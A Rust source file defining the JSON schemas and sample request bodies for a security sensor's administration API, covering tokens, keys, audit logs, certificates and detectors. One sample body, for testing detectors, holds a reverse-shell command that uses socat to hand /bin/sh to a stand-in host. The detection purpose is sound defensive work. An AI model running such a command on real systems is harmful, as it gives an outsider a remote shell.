//! What administrators send and are answered.

use serde_json::{Value, json};

use crate::administration::SensorState;

use super::schemas::{int64, list, needing, object, page, text, time};

/// A body that can be sent.
pub(super) fn body_example(name: &str) -> Option<Value> {
    Some(match name {
        "Token" | "ServiceAccountKey" => {
            json!({"bindings": [{"role": "viewer"}], "expireTime": "2099-01-01T00:00:00Z"})
        }
        "TryDetectorsRequest" => json!({"commandLine": "socat TCP:203.0.113.7:4444 EXEC:/bin/sh"}),
        "IssueCertificateRequest" => json!({"lifeSeconds": "86400"}),
        "RevokedCertificate" => json!({"fingerprint": "0f".repeat(32), "reason": "The node was replaced."}),
        _ => return None,
    })
}

fn bindings() -> Value {
    json!({"type": "array", "minItems": 1, "maxItems": 100, "items": super::reference("Binding")})
}

fn texts() -> Value {
    json!({"type": "array", "items": text()})
}

/// Every schema by its name.
pub(super) fn schemas() -> Value {
    json!({
        "Binding": needing(&["role"], json!({
            "role": {"type": "string", "enum": ["viewer", "editor", "investigator", "responder", "admin"]},
            "parent": {"type": "string", "description": "organizations/ID, folders/ID or projects/ID; everywhere without."},
        })),
        "Token": needing(&["bindings"], json!({
            "name": text(), "bindings": bindings(), "createTime": time(), "createdBy": text(), "expireTime": time(),
            "lastUsedTime": time(),
            "token": {"type": "string", "description": "The token itself: only in the answer that made it."},
        })),
        "ListTokensResponse": page("tokens", "Token"),
        "ServiceAccountKey": needing(&["bindings"], json!({
            "name": text(), "bindings": bindings(), "createdBy": text(), "keyAlgorithm": text(), "keyOrigin": text(),
            "keyType": text(), "validAfterTime": time(), "validBeforeTime": time(), "expireTime": time(),
            "privateKeyType": text(),
            "privateKeyData": {
                "type": "string", "contentEncoding": "base64",
                "description": "The key file: only in the answer that made it.",
            },
        })),
        "ListServiceAccountKeysResponse": page("keys", "ServiceAccountKey"),
        "AuditLogEntry": object(json!({
            "name": text(), "time": time(), "principal": text(), "method": text(), "resource": text(),
            "outcome": text(), "address": text(), "detail": {"type": "object"},
        })),
        "ListAuditLogEntriesResponse": page("auditLogEntries", "AuditLogEntry"),
        "Sensor": object(json!({
            "name": text(), "cluster": text(), "node": text(), "receivedAt": time(), "sensorVersion": text(),
            "kernel": text(), "mode": text(), "startTime": time(), "counters": {"type": "object"},
            "state": {"type": "string", "enum": SensorState::NAMES},
            "problems": {"type": "array", "items": object(json!({"problem": text(), "advice": text()}))},
            "lagSeconds": {
                "type": "number",
                "description": "How long its oldest finding had been waiting when it was last heard.",
            },
            "lost": {"type": "object", "additionalProperties": int64(), "description": "Since it started, by kind."},
            "detectors": {"type": "object", "description": "What each detector has cost since the sensor's start: events, nanos."},
        })),
        "Configuration": object(json!({
            "version": text(), "listen": text(), "organization": {"type": ["string", "null"]},
            "retention": object(json!({
                "findingsDays": {"type": "integer"}, "auditDays": {"type": "integer"}, "changesDays": {"type": "integer"},
            })),
            "store": {"type": "string", "enum": ["sqlite", "postgres"]},
            "intake": {"type": ["object", "null"]},
            "outputs": object(json!({
                "secretNames": {"type": "array", "items": text()}, "pubsubPush": {"type": "boolean"},
            })),
            "access": object(json!({
                "openIdConnect": {"type": "array", "items": text()}, "kubernetes": {"type": "boolean"},
            })),
            "roles": {"type": "array", "items": object(json!({
                "role": text(), "permissions": {"type": "array", "items": text()},
            }))},
            "redaction": {"type": ["object", "null"]},
            "settings": {"type": "array", "items": object(json!({
                "key": text(), "value": text(), "env": {"type": ["string", "null"]}, "helm": {"type": ["string", "null"]},
                "documentation": text(),
            }))},
        })),
        "ListSensorsResponse": page("sensors", "Sensor"),
        "IssueCertificateRequest": object(json!({
            "lifeSeconds": {"anyOf": [int64(), {"type": "integer", "minimum": 60, "maximum": 34_560_000}]},
        })),
        "IssuedCertificate": object(json!({
            "certificate": text(), "authority": text(), "fingerprint": text(), "expireTime": time(),
            "privateKey": {"type": "string", "description": "PEM: only in the answer that made it."},
        })),
        "RevokedCertificate": object(json!({
            "name": text(), "fingerprint": {"type": "string", "pattern": "^[0-9A-Fa-f]{64}$"},
            "node": {"type": "string", "description": "CLUSTER/NODE: every certificate that it was given so far."},
            "issuedUntil": time(),
            "reason": {"type": "string", "maxLength": 1024}, "revokedBy": text(), "createTime": time(),
        })),
        "ListRevokedCertificatesResponse": page("revokedCertificates", "RevokedCertificate"),
        "Detector": object(json!({
            "module": text(), "category": text(), "severity": text(), "onByDefault": {"type": "boolean"},
            "description": {"type": "string", "description": "Markdown."}, "tactic": text(),
            "additionalTactics": texts(), "techniques": texts(), "evidence": texts(), "needs": texts(),
            "reproduction": text(),
            "cost": {"anyOf": [super::reference("DetectorCost"), {"type": "null"}]},
        })),
        "DetectorCost": object(json!({"events": int64(), "nanosPerEvent": {"type": "integer"}})),
        "ListDetectorsResponse": object(json!({"detectors": list("Detector")})),
        "DetectorCondition": object(json!({
            "condition": text(), "state": {"type": "string", "enum": ["TRUE", "FALSE", "UNKNOWN"]}, "reason": text(),
        })),
        "DetectorVerdict": object(json!({
            "module": text(), "verdict": {"type": "string", "enum": ["FOUND", "QUIET", "UNDECIDED"]},
            "conditions": list("DetectorCondition"), "pid": int64(), "commandLine": text(),
        })),
        "TryDetectorsRequest": needing(&["commandLine"], json!({
            "commandLine": {"type": "string", "minLength": 1, "maxLength": 4_096},
        })),
        "TryDetectorsResponse": object(json!({"verdicts": list("DetectorVerdict")})),
        "ReplayDetectorsResponse": object(json!({
            "records": int64(), "findings": list("FindingResult"), "findingsLeftOut": int64(),
            "verdicts": list("DetectorVerdict"),
        })),
        "Output": object(json!({
            "name": text(), "description": text(), "deliveredCount": int64(), "failedCount": int64(),
            "deadLetteredCount": int64(), "waitingCount": int64(), "deadLetterCount": int64(),
        })),
        "NotificationConfigsStatus": object(json!({"outputs": list("Output"), "nextPageToken": text()})),
        "DeadLetter": object(json!({
            "name": text(), "id": text(), "notificationConfig": text(), "finding": text(), "changeTime": time(),
            "createTime": time(), "attempts": {"type": "integer"}, "reason": text(),
        })),
        "ListDeadLettersResponse": page("deadLetters", "DeadLetter"),
        "ReplayDeadLettersResponse": object(json!({
            "deliveredCount": int64(), "remainingCount": int64(),
            "stopReason": {"type": "string", "description": "Why it ended before the last one."},
        })),
    })
}
